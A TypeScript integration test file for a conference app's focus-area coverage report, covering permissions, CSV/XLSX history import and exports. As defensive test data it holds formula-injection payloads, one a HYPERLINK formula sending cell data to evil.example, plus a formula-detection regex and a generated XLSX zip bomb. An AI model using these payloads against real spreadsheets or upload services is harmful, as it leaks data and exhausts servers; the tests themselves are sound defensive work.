import { parse as parseCsv } from 'csv-parse/sync';
import JSZip from 'jszip';
import type { CoverageItem, CoverageReport, ImportResult } from '@samverkan/coverage/contract';
import { createConference, registrationBody } from './support/factories';
import { createTestApp, DEMO, rowCounts, type TestApp } from './support/test-app';

const URL = '/api/reports/focus-area-coverage';
const IMPORT = `${URL}/history-import`;

const HEADER = 'record,conference,title,starts_on,ends_on,venue,format,minutes,focus_areas,signups,organisation_type,count';

function csv(lines: string[]): Buffer {
  return Buffer.from([HEADER, ...lines].join('\n') + '\n', 'utf8');
}

/** What a spreadsheet reads as the start of a formula (OWASP), in any cell of an export. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"klicka")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '＝1+1', ' =1+1'];

const GOOD_FILE = csv([
  'conference,it-2019-var,Vårkonferens 2019,2019-04-10,2019-04-11,Finspång,,,,,,',
  'session,it-2019-var,Rälsen och godset,,,,seminar,60,infrastructure,12,,',
  'session,it-2019-var,Skolan i bruksorten,,,,panel,30,"living-environment;skills",,,',
  'session,it-2019-var,Tema: infrastruktur,,,,theme,,infrastructure,,,',
  'participants,it-2019-var,,,,,,,,,municipality,40',
  'participants,it-2019-var,,,,,,,,,kommun,0',
]);

describe('focus-area coverage', () => {
  let t: TestApp;
  let committee: string;
  let admin: string;
  let council: string;
  beforeAll(async () => {
    t = await createTestApp();
    committee = await t.login(DEMO.committee);
    admin = await t.login(DEMO.admin);
    council = await t.login(DEMO.council);
  });
  afterAll(() => t.close());

  const report = async (query = '', bearer = committee) =>
    (await t.http.get(`${URL}${query}`).set('Authorization', bearer).expect(200)).body as CoverageReport;
  const upload = (body: Buffer, name: string, query = '', bearer = committee) =>
    t.http.post(`${IMPORT}${query}`).set('Authorization', bearer).attach('file', body, name);

  describe('permissions', () => {
    it.each([
      ['GET', URL],
      ['GET', `${URL}/items?focusArea=skills`],
      ['GET', `${URL}/export.csv`],
      ['GET', `${URL}/export.xlsx`],
      ['POST', IMPORT],
    ])('%s %s: anonymous 401, programme council 403, committee and admin allowed', async (method, path) => {
      const call = (bearer?: string) => {
        const req = method === 'GET' ? t.http.get(path) : t.http.post(`${path}?dryRun=true`).attach('file', GOOD_FILE, 'h.csv');
        return bearer ? req.set('Authorization', bearer) : req;
      };
      const anonymous = await call();
      expect(anonymous.status).toBe(401);
      expect(anonymous.body).toMatchObject({ statusCode: 401, message: expect.any(String) });
      expect((await call(council)).status).toBe(403);
      expect((await call(committee)).status).toBe(200);
      expect((await call(admin)).status).toBe(200);
    });
  });

  it('reports the demo history with a gap and suggestions, filtered by years', async () => {
    const all = await report();
    expect(all.focusAreas.map((a) => a.code)).toEqual([
      'infrastructure',
      'digitalisation',
      'green-transition',
      'skills',
      'living-environment',
      'cooperation',
    ]);
    const imported = all.conferences.filter((c) => c.source === 'imported');
    expect(imported).toHaveLength(8);
    expect(all.years).toEqual(expect.arrayContaining([2021, 2022, 2023, 2024, 2025]));
    expect(all.cells).toHaveLength(6 * all.conferences.length);
    expect(all.byYear).toHaveLength(6 * all.years.length);
    // Living environment vanished after 2022: a gap over the last three conferences, with a suggestion.
    const living = all.gaps.find((g) => g.focusAreaCode === 'living-environment');
    expect(living).toBeDefined();
    expect(living?.share).toBeLessThan(0.1);
    expect(all.suggestions.some((s) => s.focusAreaCode === 'living-environment')).toBe(true);
    // State agencies are scarce among participants.
    expect(all.suggestions).toContainEqual(expect.objectContaining({ kind: 'invite-participants', participantType: 'state-agency' }));

    const autumn2021 = imported.find((c) => c.startsOn === '2021-10-14');
    expect(autumn2021).toMatchObject({ year: 2021, programmeMinutes: 45 + 60 + 60 + 60 + 60 + 45 + 90, participants: 108 });
    const cell = all.cells.find((c) => c.conferenceId === autumn2021?.id && c.focusAreaCode === 'living-environment');
    expect(cell).toMatchObject({ themes: 0, items: 2, minutes: 120, signups: 62 });
    expect(cell?.share).toBeCloseTo(120 / 420, 3);

    const recent = await report('?fromYear=2024&toYear=2025&minShare=0.2&lastN=2');
    expect(recent.conferences.map((c) => c.year)).toEqual([2024, 2024, 2025]);
    expect(recent.query).toMatchObject({ fromYear: 2024, toYear: 2025, minShare: 0.2, lastN: 2 });
    expect(recent.gaps.every((g) => g.conferenceIds.length === 2)).toBe(true);
  });

  it('refuses bad filters with 400 and field errors', async () => {
    const res = await t.http.get(`${URL}?minShare=2&lastN=0&conferenceIds=nope`).set('Authorization', committee).expect(400);
    expect(Object.keys(res.body.errors).sort()).toEqual(['conferenceIds', 'lastN', 'minShare']);
  });

  it('counts themes, items, minutes, proposals and sign-ups of a live conference, in a constant number of queries', async () => {
    const conference = await createConference(t, committee, {
      titleSv: 'Täckningstest',
      startsAt: '2032-05-10T09:00:00+02:00',
      endsAt: '2032-05-11T16:00:00+02:00',
      capacity: 50,
    });
    const addItem = (body: Record<string, unknown>) =>
      t.http.post(`/api/conferences/${conference.id}/agenda/items`).set('Authorization', committee).send(body).expect(201);
    await addItem({
      titleSv: 'Elnätet',
      type: 'seminar',
      startsAt: '2032-05-10T09:00:00+02:00',
      endsAt: '2032-05-10T10:30:00+02:00',
      focusAreaCodes: ['infrastructure'],
    });
    await addItem({ titleSv: 'Lunch', type: 'meal', startsAt: '2032-05-10T12:00:00+02:00', endsAt: '2032-05-10T13:00:00+02:00' });
    await addItem({
      titleSv: 'Kompetens',
      type: 'panel',
      startsAt: '2032-05-10T13:00:00+02:00',
      endsAt: '2032-05-10T13:30:00+02:00',
      focusAreaCodes: ['skills', 'infrastructure'],
    });
    await t.http
      .post(`/api/conferences/${conference.id}/themes`)
      .set('Authorization', committee)
      .send({ titleSv: 'Energi', focusAreaCodes: ['infrastructure'] })
      .expect(201);
    for (const [n, organisationType] of [
      [1, 'municipality'],
      [2, 'business'],
      [3, 'business'],
      [4, 'state-agency'],
    ] as const) {
      await t.http
        .post(`/api/conferences/${conference.id}/registrations`)
        .send(registrationBody(`cov${n}`, { organisationType }))
        .expect(201);
    }

    t.queries.reset();
    const r = await report(`?conferenceIds=${conference.id}`);
    const few = t.queries.queries;
    expect(r.conferences).toEqual([
      expect.objectContaining({ id: conference.id, source: 'live', year: 2032, programmeMinutes: 120, participants: 4 }),
    ]);
    const infra = r.cells.find((c) => c.focusAreaCode === 'infrastructure');
    expect(infra).toMatchObject({ themes: 1, items: 2, minutes: 120, share: 1 });
    expect(r.cells.find((c) => c.focusAreaCode === 'skills')).toMatchObject({ themes: 0, items: 1, minutes: 30, share: 0.25 });
    expect(r.participantMix[0]).toEqual({
      conferenceId: conference.id,
      counts: { municipality: 1, business: 2, region: 0, 'state-agency': 1, other: 0 },
      total: 4,
    });

    const items = (
      await t.http.get(`${URL}/items?focusArea=infrastructure&conferenceId=${conference.id}`).set('Authorization', committee).expect(200)
    ).body as CoverageItem[];
    expect(items.map((i) => [i.kind, i.title, i.minutes])).toEqual([
      ['theme', 'Energi', null],
      ['agenda-item', 'Elnätet', 90],
      ['agenda-item', 'Kompetens', 30],
    ]);

    // More conferences, same number of queries.
    const many = csv(
      Array.from({ length: 12 }, (_, i) => [
        `conference,it-many-${i},Konferens ${i},${1990 + i}-05-01,,,,,,,,`,
        `session,it-many-${i},Pass ${i},,,,seminar,60,digitalisation,3,,`,
        `participants,it-many-${i},,,,,,,,,region,${i}`,
      ]).flat(),
    );
    expect((await upload(many, 'many.csv')).status).toBe(200);
    t.queries.reset();
    const all = await report();
    expect(t.queries.queries).toBe(few);
    // Five for the report, one for the guard's session check.
    expect(few).toBeLessThanOrEqual(6);
    expect(all.conferences.length).toBeGreaterThan(20);
  });

  it('answers 404 with a code when there is no current strategy', async () => {
    const [{ id }] = await t.dataSource.query(`SELECT id FROM strategies WHERE state = 'adopted'`);
    await t.dataSource.query(`UPDATE strategies SET state = 'replaced' WHERE id = $1`, [id]);
    try {
      const res = await t.http.get(URL).set('Authorization', committee).expect(404);
      expect(res.body).toMatchObject({
        code: 'strategy.none-current',
        message: 'Det finns ingen gällande strategi. Be en administratör lägga in den.',
      });
    } finally {
      await t.dataSource.query(`UPDATE strategies SET state = 'adopted' WHERE id = $1`, [id]);
    }
    await t.http.get(URL).set('Authorization', committee).expect(200);
  });

  describe('history import', () => {
    it('dry run lists every row error with its line and column, and writes nothing; the real import refuses with 422', async () => {
      const bad = csv([
        'conference,it-bad,Dålig,2019-02-30,,,,,,,,',
        'session,it-bad,Utan längd,,,,seminar,,skills,,,',
        'session,it-bad,Okänt område,,,,panel,45,kultur,,,',
        'session,it-nowhere,Ingen konferens,,,,panel,45,skills,,,',
        'participants,it-bad,,,,,,,,,kyrkan,12',
        'participants,it-bad,,,,,,,,,region,-3',
        'mystery,it-bad,,,,,,,,,,',
      ]);
      const before = await rowCounts(t.dataSource);
      const dry = await upload(bad, 'bad.csv', '?dryRun=true').expect(200);
      const result = dry.body as ImportResult;
      expect(result).toMatchObject({ dryRun: true, applied: false, rows: 7 });
      expect(result.errors.map((e) => [e.line, e.column, e.code])).toEqual([
        [2, 'starts_on', 'invalid-date'],
        [3, 'minutes', 'required'],
        [4, 'focus_areas', 'unknown-focus-area'],
        [5, 'conference', 'unknown-conference'],
        [6, 'organisation_type', 'invalid'],
        [7, 'count', 'invalid'],
        [8, 'record', 'invalid'],
      ]);
      const real = await upload(bad, 'bad.csv').expect(422);
      expect(real.body).toMatchObject({
        statusCode: 422,
        code: 'coverage.import-has-errors',
        message: 'Filen har 7 fel. Inget importerades. Rätta raderna och försök igen.',
        errors: { file: 'invalid-rows' },
        result: { applied: false },
      });
      expect(real.body.result.errors).toHaveLength(7);
      expect(await rowCounts(t.dataSource)).toEqual(before);
    });

    it('imports once, then the same file changes nothing (idempotent); a changed row is an update', async () => {
      const dry = (await upload(GOOD_FILE, 'history.csv', '?dryRun=true').expect(200)).body as ImportResult;
      expect(dry).toMatchObject({
        applied: false,
        conferences: { created: 1, updated: 0, unchanged: 0 },
        sessions: { created: 3 },
        participants: { created: 1 },
      });
      // "kommun" is an alias of municipality: a duplicate of line 6.
      expect(dry.errors).toEqual([expect.objectContaining({ line: 7, column: 'organisation_type', code: 'duplicate' })]);

      const fixed = Buffer.from(
        GOOD_FILE.toString('utf8').replace('participants,it-2019-var,,,,,,,,,kommun,0\n', 'participants,it-2019-var,,,,,,,,,stat,2\n'),
      );
      const first = (await upload(fixed, 'history.csv').expect(200)).body as ImportResult;
      expect(first).toMatchObject({
        applied: true,
        conferences: { created: 1 },
        sessions: { created: 3 },
        participants: { created: 2 },
        errors: [],
      });
      const snapshot = await t.dataSource.query(
        `SELECT p.import_key, p.updated_at, s.title, s.updated_at AS s_updated, s.focus_area_codes FROM past_conferences p JOIN past_sessions s ON s.past_conference_id = p.id WHERE p.import_key = 'it-2019-var' ORDER BY s.title`,
      );
      const counts = await rowCounts(t.dataSource);

      const again = (await upload(fixed, 'history.csv').expect(200)).body as ImportResult;
      expect(again).toMatchObject({
        applied: true,
        conferences: { created: 0, updated: 0, unchanged: 1 },
        sessions: { created: 0, updated: 0, unchanged: 3 },
      });
      expect(await rowCounts(t.dataSource)).toEqual(counts);
      expect(
        await t.dataSource.query(
          `SELECT p.import_key, p.updated_at, s.title, s.updated_at AS s_updated, s.focus_area_codes FROM past_conferences p JOIN past_sessions s ON s.past_conference_id = p.id WHERE p.import_key = 'it-2019-var' ORDER BY s.title`,
        ),
      ).toEqual(snapshot);
      expect(snapshot.find((s: { title: string }) => s.title === 'Skolan i bruksorten').focus_area_codes.sort()).toEqual([
        'living-environment',
        'skills',
      ]);

      const changed = Buffer.from(fixed.toString('utf8').replace('Rälsen och godset,,,,seminar,60', 'Rälsen och godset,,,,seminar,75'));
      const third = (await upload(changed, 'history.csv').expect(200)).body as ImportResult;
      expect(third.sessions).toEqual({ created: 0, updated: 1, unchanged: 2 });
      expect(third.preview).toEqual([expect.objectContaining({ key: 'it-2019-var', change: 'updated' })]);
      const r = await report('?fromYear=2019&toYear=2019');
      expect(r.conferences).toEqual([expect.objectContaining({ title: 'Vårkonferens 2019', programmeMinutes: 105, participants: 42 })]);
    });

    it('reads the same rows from an XLSX file (semicolons in CSV too)', async () => {
      const ExcelJS = (await import('exceljs')).default;
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('Historik');
      sheet.addRow(HEADER.split(','));
      sheet.addRow(['conference', 'it-xlsx', 'Höstkonferens 2018', new Date('2018-10-03T00:00:00Z'), '', 'Olofström']);
      sheet.addRow(['session', 'it-xlsx', 'Vätgas', '', '', '', 'keynote', 40, 'green-transition']);
      sheet.addRow(['session', 'it-xlsx', 'Fel', '', '', '', 'keynote', 'lång', 'green-transition']);
      const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
      const dry = (await upload(buffer, 'historik.xlsx', '?dryRun=true').expect(200)).body as ImportResult;
      expect(dry.conferences.created).toBe(1);
      expect(dry.preview[0]).toMatchObject({ key: 'it-xlsx', startsOn: '2018-10-03', sessions: 1 });
      expect(dry.errors).toEqual([expect.objectContaining({ line: 4, column: 'minutes', code: 'invalid' })]);

      const semicolons = Buffer.from(
        '\uFEFFrecord;conference;title;starts_on;format;minutes;focus_areas\nconference;it-semi;Semikolon;2017-09-01;;;\nsession;it-semi;Pass;;workshop;50;cooperation,skills\n',
      );
      const ok = (await upload(semicolons, 'semi.csv').expect(200)).body as ImportResult;
      expect(ok).toMatchObject({ applied: true, conferences: { created: 1 }, sessions: { created: 1 } });
    });

    it('refuses text cells a spreadsheet would read as a formula, naming line and column', async () => {
      const file = csv([
        'conference,it-formula,"=HYPERLINK(""http://evil.example/?x=""&A2,""klicka"")",2019-04-10,,+46 Finspång,,,,,,',
        'conference,@it-key,Bra titel,2019-04-10,,,,,,,,',
        'session,it-formula,"\t=1+1",,,,seminar,30,skills,,,',
        'session,it-formula,-2+3,,,,seminar,30,skills,,,',
        'session,it-formula,＝1+1,,,,seminar,30,skills,,,',
        'session,it-formula,Helt vanlig titel – med tankstreck,,,,seminar,30,skills,,,',
      ]);
      const before = await rowCounts(t.dataSource);
      const dry = (await upload(file, 'formler.csv', '?dryRun=true').expect(200)).body as ImportResult;
      expect(dry.errors.filter((e) => e.code === 'formula').map((e) => [e.line, e.column])).toEqual([
        [2, 'title'],
        [2, 'venue'],
        [3, 'conference'],
        [4, 'title'],
        [5, 'title'],
        [6, 'title'],
      ]);
      expect(dry.errors[0].message).toMatch(/^Texten börjar med "=", som kalkylprogram läser som en formel/);
      const real = await upload(file, 'formler.csv').expect(422);
      expect(real.body.result.errors.filter((e: { code: string }) => e.code === 'formula')).toHaveLength(6);
      expect(await rowCounts(t.dataSource)).toEqual(before);

      // The same from an XLSX: a text cell is read as written, a formula cell by its value.
      const ExcelJS = (await import('exceljs')).default;
      const workbook = new ExcelJS.Workbook();
      const sheet = workbook.addWorksheet('Historik');
      sheet.addRow(HEADER.split(','));
      sheet.addRow(['conference', 'it-formula-x', '=1+1', '2019-04-10']);
      const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
      const fromXlsx = (await upload(xlsx, 'formler.xlsx', '?dryRun=true').expect(200)).body as ImportResult;
      expect(fromXlsx.errors).toEqual([expect.objectContaining({ line: 2, column: 'title', code: 'formula' })]);
    });

    it('refuses a small XLSX that unpacks to too much before parsing it, and stops reading at the row cap', async () => {
      const ExcelJS = (await import('exceljs')).default;
      const base = new ExcelJS.Workbook();
      base.addWorksheet('Historik').addRow(HEADER.split(','));
      const withSheet = async (rows: string) => {
        const zip = await JSZip.loadAsync(Buffer.from(await base.xlsx.writeBuffer()));
        zip.file(
          'xl/worksheets/sheet1.xml',
          `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`,
        );
        return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
      };
      const cell = (column: string, text: string) => `<c r="${column}" t="inlineStr"><is><t>${text}</t></is></c>`;
      const header = `<row r="1">${HEADER.split(',')
        .map((name, i) => cell(`${String.fromCharCode(65 + i)}1`, name))
        .join('')}</row>`;

      // A bomb: a few hundred kB under the 2 MB upload limit, some 40 MB of sheet XML unpacked.
      const thousand = '<row><c t="inlineStr"><is><t>session</t></is></c></row>'.repeat(1000);
      const bomb = await withSheet(header + thousand.repeat(700));
      expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
      const before = await rowCounts(t.dataSource);
      for (const query of ['?dryRun=true', '']) {
        const res = await upload(bomb, 'bomb.xlsx', query).expect(413);
        expect(res.body).toEqual({
          statusCode: 413,
          code: 'coverage.import-too-large',
          message: 'Arbetsboken blir för stor uppackad (högst 32 MB). Spara bladet som CSV eller dela upp filen.',
          params: { limitMb: 32 },
          errors: { file: 'too-large' },
        });
      }
      expect(await rowCounts(t.dataSource)).toEqual(before);

      // Within the limit but over 20 000 rows: refused by count, and the reading stops at the cap (the XML
      // after it is broken, which a full parse would report as an unreadable file).
      const rows = Array.from(
        { length: 20_500 },
        (_, i) => `<row r="${i + 2}">${cell(`A${i + 2}`, 'session')}${cell(`B${i + 2}`, 'k')}</row>`,
      );
      const tooMany = await withSheet(header + rows.join('') + '<row><c><v>&broken;</oops>');
      const counted = (await upload(tooMany, 'many.xlsx', '?dryRun=true').expect(200)).body as ImportResult;
      expect(counted.errors).toEqual([
        expect.objectContaining({ line: 1, code: 'too-many-rows', message: 'Filen har fler än 20000 rader.' }),
      ]);
    });

    it('refuses a missing file, another file type, and an unknown header', async () => {
      const none = await t.http.post(IMPORT).set('Authorization', committee).expect(400);
      expect(none.body).toMatchObject({ code: 'coverage.import-file-missing', errors: { file: 'required' } });
      const pdf = await upload(Buffer.from('hello'), 'notes.pdf').expect(400);
      expect(pdf.body).toMatchObject({ code: 'coverage.import-unsupported-type', errors: { file: 'unsupported-type' } });
      const header = await upload(Buffer.from('record,conference,colour\n'), 'x.csv', '?dryRun=true').expect(200);
      expect(header.body.errors).toEqual([expect.objectContaining({ line: 1, code: 'unknown-column' })]);
    });

    it('is all or nothing: a database failure half-way leaves no rows behind', async () => {
      const before = await rowCounts(t.dataSource);
      // A constraint the file checks cannot know about makes the second insert (sessions) fail after
      // the first (conferences) succeeded: the transaction must take the conference back too.
      await t.dataSource.query(`ALTER TABLE past_sessions ADD CONSTRAINT it_no_sessions CHECK (title <> 'Blockerad')`);
      try {
        const blocked = csv(['conference,it-half,Halv,2016-05-01,,,,,,,,', 'session,it-half,Blockerad,,,,seminar,30,skills,,,']);
        const res = await upload(blocked, 'half.csv');
        expect(res.status).toBe(422);
        expect(await rowCounts(t.dataSource)).toEqual(before);
        expect(await t.dataSource.query(`SELECT 1 FROM past_conferences WHERE import_key = 'it-half'`)).toEqual([]);
      } finally {
        await t.dataSource.query(`ALTER TABLE past_sessions DROP CONSTRAINT it_no_sessions`);
      }
    });
  });

  it('exports the table as CSV and XLSX', async () => {
    const res = await t.http.get(`${URL}/export.csv?fromYear=2021&toYear=2021`).set('Authorization', committee).expect(200);
    expect(res.headers['content-type']).toMatch(/text\/csv/);
    const lines = res.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe(
      'År,Konferens,Datum,Källa,Fokusområde,Teman,Programpunkter,Minuter,Andel av programtiden (%),Inlämnade förslag,Antagna förslag,Anmälningar till pass,Önskemål i utvärderingen,Lucka',
    );
    expect(lines).toHaveLength(1 + 6);
    expect(lines.some((l) => l.includes('En attraktiv livsmiljö') && l.includes(',120,28.6,'))).toBe(true);

    const xlsx = await t.http
      .get(`${URL}/export.xlsx`)
      .set('Authorization', admin)
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (c: Buffer) => chunks.push(c));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const ExcelJS = (await import('exceljs')).default;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as ArrayBuffer);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Täckning', 'Deltagare', 'Luckor']);
    expect(workbook.getWorksheet('Luckor')?.rowCount).toBeGreaterThan(1);
  });

  it('exports conference titles that look like formulas as text, in CSV and XLSX', async () => {
    // Stored before imports refused them (or written by any other way in): the exports must be safe anyway.
    await t.dataSource.query(
      `INSERT INTO past_conferences (import_key, title, starts_on, ends_on)
       SELECT 'it-formula-' || n, title, '2012-05-01'::date + n::int, '2012-05-01'::date + n::int
         FROM unnest($1::text[]) WITH ORDINALITY AS v(title, n)`,
      [FORMULAS],
    );
    const res = await t.http.get(`${URL}/export.csv?fromYear=2012&toYear=2012`).set('Authorization', committee).expect(200);
    const rows: string[][] = parseCsv(res.text, { bom: true });
    const titles = new Set(rows.slice(1).map((row) => row[1]));
    expect([...titles].sort()).toEqual(FORMULAS.map((title) => `'${title}`).sort());
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA_START);

    const xlsx = await t.http
      .get(`${URL}/export.xlsx?fromYear=2012&toYear=2012`)
      .set('Authorization', committee)
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (c: Buffer) => chunks.push(c));
        response.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);
    const ExcelJS = (await import('exceljs')).default;
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.body as ArrayBuffer);
    const shown = new Set<string>();
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeFalsy();
          if (typeof cell.value === 'string') shown.add(cell.value);
        }),
      );
    }
    // Written as text cells, unchanged (an XML parser reads a CR as LF): a spreadsheet never evaluates a text cell.
    expect(FORMULAS.filter((title) => !shown.has(title.replace(/\r/g, '\n')))).toEqual([]);
  });
});
